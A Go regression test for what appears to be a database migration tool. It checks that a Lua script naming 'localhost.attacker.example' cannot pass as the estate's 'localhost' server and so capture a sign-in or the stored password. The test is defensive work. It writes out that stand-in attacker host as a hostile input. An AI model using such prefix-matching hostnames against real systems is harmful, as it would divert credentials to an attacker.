package main

import (
	"path/filepath"
	"strings"
	"testing"
)

// TestScriptPoolTableShortNameIsNotTheServer: the estate names its
// target's server by a short name ("localhost,PORT"); a script's pool
// table naming "localhost.attacker.example,PORT" was taken for that
// server by estate.SameServer (a short name matches an FQDN starting with
// it), so a Windows or Kerberos sign-in went to whatever that name
// resolves to. Both guards of a script's tables now compare host names as
// written (estate.SameSignInServer): without a password the table is
// refused as another server, and with the estate's password_env as a
// server the estate does not pair the variable with. Failed before (the
// sign-in case): no refusal, the name was looked up to connect. The
// password case passed before (pairedSecret's own comparison): it is here
// to catch a weakening of the shared one.
func TestScriptPoolTableShortNameIsNotTheServer(t *testing.T) {
	t.Parallel()
	good, goodConns := listenCount(t)
	_, port, _ := strings.Cut(good, ",")
	est := labEstateTargetDB(t, `{ instance = "localhost,`+port+`", database = "mgc", user = "pcmig", password_env = "PCMIG_LUA27_PW" }`)
	evil := "localhost.attacker.example," + port
	script := filepath.Join(t.TempDir(), "short.lua")
	writeFile(t, script, `local category = require("category")
local function try(what, db)
  local ok, err = pcall(category.list, {db = db})
  print(what .. ": " .. tostring(err))
end
try("sign-in", {instance = "`+evil+`", database = "mgc"})
try("password", {instance = "`+evil+`", database = "mgc", user = "pcmig", password_env = "PCMIG_LUA27_PW"})
try("own", {instance = "LOCALHOST,`+port+`", database = "other", user = "pcmig", password_env = "PCMIG_LUA27_PW"})
`)
	stdout, stderr, _ := runCmdEnv(t, map[string]string{"PCMIG_LUA27_PW": "Lua27Pw"}, "run", script, "--estate", est, "--dry-run")
	out := stdout + stderr
	mustContain(t, "output", out,
		"sign-in: ", "server "+evil+" is not one the estate file names",
		"password: ", "password_env PCMIG_LUA27_PW: the estate file does not name it for server "+evil)
	if goodConns.Load() == 0 {
		t.Errorf("the estate's own server got no connection:\n%s", out)
	}
	if strings.Contains(out, "Lua27Pw") {
		t.Errorf("the output holds the password:\n%s", out)
	}
}
